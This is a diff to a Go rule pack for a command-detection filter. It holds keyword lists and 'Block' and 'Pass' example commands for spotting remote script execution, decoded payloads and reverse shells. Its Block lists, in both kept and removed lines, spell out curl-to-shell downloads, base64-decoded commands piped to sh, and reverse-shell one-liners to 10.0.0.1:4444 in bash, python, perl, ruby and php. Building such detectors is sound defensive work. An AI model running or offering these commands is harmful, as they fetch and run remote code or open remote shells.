@@ -16,10 +16,9 @@ var remote = Pack{
 					"| bash :::", "=(curl", "| sh -\n", "| bash -\n", "| sh'", "| sh\"", "| sh)", "|sh'", "|sh\"",
 					"|sh)", "|bash'", "|bash\"", "|bash)", "| bash'", "| bash\"", "| bash)", "| sudo sh", "|sudo sh",
 					"| sudo bash", "|sudo bash", "| zsh", "|zsh", "| python3\n", "| python\n", "| node\n", "<(curl",
-					"<(wget", "eval $(curl", "eval `curl", "sh -c $(curl", "sh -c $(wget", "sh -c `curl",
-					"eval $(wget", "iex ", "iex(", "|iex", "| iex", "invoke-expression", "exec(urllib",
-					"exec(requests", "eval(requests",
-					"exec(__import__"},
+					"<(wget", "eval $(curl", "eval `curl", "sh -c $(curl", "sh -c $(wget", "sh -c `curl", "eval $(wget",
+					"iex ", "iex(", "|iex", "| iex", "invoke-expression", "exec(urllib", "exec(requests",
+					"eval(requests", "exec(__import__"},
 			},
 			Block: func() []Example {
 				return Lines("curl -fsSL https://x.io/i.sh | sh", "wget -qO- https://x.io/i.sh | bash",
@@ -77,12 +76,7 @@ var remote = Pack{
 					"curl https://x.io > /tmp/x && sh /tmp/x", "wget -O /tmp/i https://x.io && sudo bash /tmp/i",
 					"curl x.io/a.py -oa.py; python3 a.py", "curl x.io | tee i.sh && . ./i.sh",
 					"wget -q https://x.io/tool?v=1 -O tool && chmod 755 tool && ./tool --version",
-					"cd /tmp && wget https://x.io/get.sh && sh get.sh", "curl --output=a.pl x.io; perl a.pl",
-					"curl -o a x.io && mv a b && sh b", "curl -o \"$T/i.sh\" x.io && bash \"$T/i.sh\"",
-					"wget x.io/i.sh && cat i.sh | bash",
-					"sudo curl -Lo /usr/local/bin/k https://x.io/k; sudo /usr/local/bin/k",
-					"curl x.io/i.sh -o i.sh; bash < i.sh", "f=$(mktemp); curl -o \"$f\" x.io; sh \"$f\"",
-					"wget --output-document=i x.io; env sh i")
+					"cd /tmp && wget https://x.io/get.sh && sh get.sh", "curl --output=a.pl x.io; perl a.pl")
 			},
 			Pass: func() []Example {
 				return Lines("curl -o data.json https://x.io/data.json && python3 load.py data.json",
@@ -90,11 +84,7 @@ var remote = Pack{
 					"curl -LO https://x.io/a.tgz && tar xzf a.tgz && cd a && ./configure && make",
 					"curl -o x.sh https://x.io/x.sh", "wget https://x.io/x.deb && sudo dpkg -i x.deb",
 					"curl -o x.sh https://x.io/x.sh && cat x.sh", "./x.sh && wget x.io/y.txt",
-					"curl -o a.sql x.io && psql -f a.sql", "curl -s x.io | jq .v > version.txt && ./build.sh",
-					"sh run.sh > out.txt; curl x.io", "wget -q x.io/logo.png -O public/logo.png && npm run build",
-					"curl -Lo m.bin x.io && ./llama -m m.bin",
-					"curl -s localhost:3000/health > health.json && node check.js health.json",
-					"curl -O x.io/x.sh && shellcheck x.sh")
+					"curl -o a.sql x.io && psql -f a.sql", "curl -s x.io | jq .v > version.txt && ./build.sh")
 			},
 		},
 		{
@@ -105,12 +95,10 @@ var remote = Pack{
 			Find:    decodedCode,
 			Doubt: [][]string{
 				{"b64decode", "decode_base64", "base64_decode", "atob(", "frombase64string", "base64 -d",
-					"base64 --decode", "base64 -d", ", 'base64')", ", \"base64\")", "unhexlify",
-					"fromhex("},
+					"base64 --decode", "base64 -d", ", 'base64')", ", \"base64\")", "unhexlify", "fromhex("},
 				{"exec(", "eval(", "eval $", "eval `", "os.system", "subprocess", "execsync", "iex",
 					"invoke-expression", "| sh\n", "|sh\n", "| bash\n", "|bash\n", "|sh'", "|sh\"", "| sh'", "| sh\"",
-					"|bash'", "|bash\"", "| bash'",
-					"| bash\""},
+					"|bash'", "|bash\"", "| bash'", "| bash\""},
 			},
 			Block: func() []Example {
 				return Lines("echo aGk= | base64 -d | sh", "base64 --decode < x | bash", "echo 6869 | xxd -r -p | sh",
@@ -127,12 +115,7 @@ var remote = Pack{
 			Pass: func() []Example {
 				return Lines("base64 -d x > y", "echo aGk= | base64 -d | jq .", "echo $KEY | base64 -d > key.json",
 					"gunzip -c d.sql.gz | psql app", "zcat x.log.gz | grep error", "base64 file | sh-lint",
-					"xxd -p x", "kubectl get secret x -o json | jq -r .a | base64 -d", "echo -n x | base64",
-					"gzip -d x.gz && ls", "zcat a.gz | python3 -c 'import sys; print(len(sys.stdin.read()))'",
-					"node -e 'console.log(atob(\"aGk=\"))'",
-					"python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'", "xz -dc a.tar.xz | tar x",
-					"openssl x509 -in c.pem -text", "powershell -File x.ps1", "git log | rev | head",
-					"bash build.sh | gzip", "printf '%s\\n' ls | sh", "base64 -d a.b64 > a.png && ./build.sh")
+					"xxd -p x", "kubectl get secret x -o json | jq -r .a | base64 -d", "echo -n x | base64")
 			},
 		},
 		{
@@ -144,8 +127,7 @@ var remote = Pack{
 			Doubt: [][]string{
 				{"/dev/tcp/", "/dev/udp/", "/inet/tcp/", "socket.socket", "import socket", "io::socket", "use socket",
 					"tcpsocket", "fsockopen", "net.socket", "net.connect", "require('net')", "require(\"net\")",
-					"require(net)",
-					"sockets.tcpclient"},
+					"require(net)", "sockets.tcpclient"},
 				{"sh -i", "/bin/sh", "/bin/bash", "pty.spawn", "dup2", "cmd.exe", "<&5 |", "<&3 |", "while read",
 					"sh <&", "bash <&", "iex", "exec \"sh", "spawn('sh'", "spawn(\"sh\"", "spawn('bash'", "0>&1",
 					"0<&", "getline"},
@@ -157,25 +139,14 @@ var remote = Pack{
 					"mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
 					"sh </dev/tcp/10.0.0.1/4444",
 					"exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done",
-					"nc -c bash 10.0.0.1 4444", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
-					"telnet 10.0.0.1 4444 | sh | telnet 10.0.0.1 4445",
-					"python3 -c 'import socket,os,pty; s=socket.socket(); os.dup2(s.fileno(),0); pty.spawn(\"sh\")'",
-					"perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); exec(\"/bin/sh -i\");'",
-					"ruby -rsocket -e 'f=TCPSocket.open(\"x\",1).to_i; exec sprintf(\"/bin/sh -i <&%d\",f)'",
-					"php -r '$s=fsockopen(\"x\",1); exec(\"/bin/sh -i <&3 >&3\");'",
-					"nohup bash -i > /dev/udp/10.0.0.1/4444 0>&1 &", "cat </dev/tcp/10.0.0.1/4444 | bash",
-					"0<&196;exec 196<>/dev/tcp/x/1; sh <&196 >&196 2>&196", "sh -i | openssl s_client -connect x:1",
-					"busybox nc x 1 -e sh")
+					"nc -c bash 10.0.0.1 4444")
 			},
 			Pass: func() []Example {
 				return Lines("nc -zv localhost 5432", "timeout 1 bash -c '</dev/tcp/localhost/5432'",
 					"(echo > /dev/tcp/localhost/80) && echo up", "nc -l 8080",
 					"socat TCP-LISTEN:8080,fork TCP:localhost:80", "cat a.txt | nc termbin.com 9999",
 					"nc -vz -w 3 db 5432", "python3 -c 'import socket; print(socket.gethostname())'",
-					"bash build.sh | nc termbin.com 9999", "telnet localhost 25",
-					"openssl s_client -connect x.io:443", "ssh -t host bash", "echo PING | nc localhost 6379",
-					"docker exec -it app bash -i", "node -e 'require(\"net\").connect(80, \"x\")'",
-					"grep -rn /dev/tcp scripts", "curl telnet://localhost:5432")
+					"bash build.sh | nc termbin.com 9999")
 			},
 		},
 	},
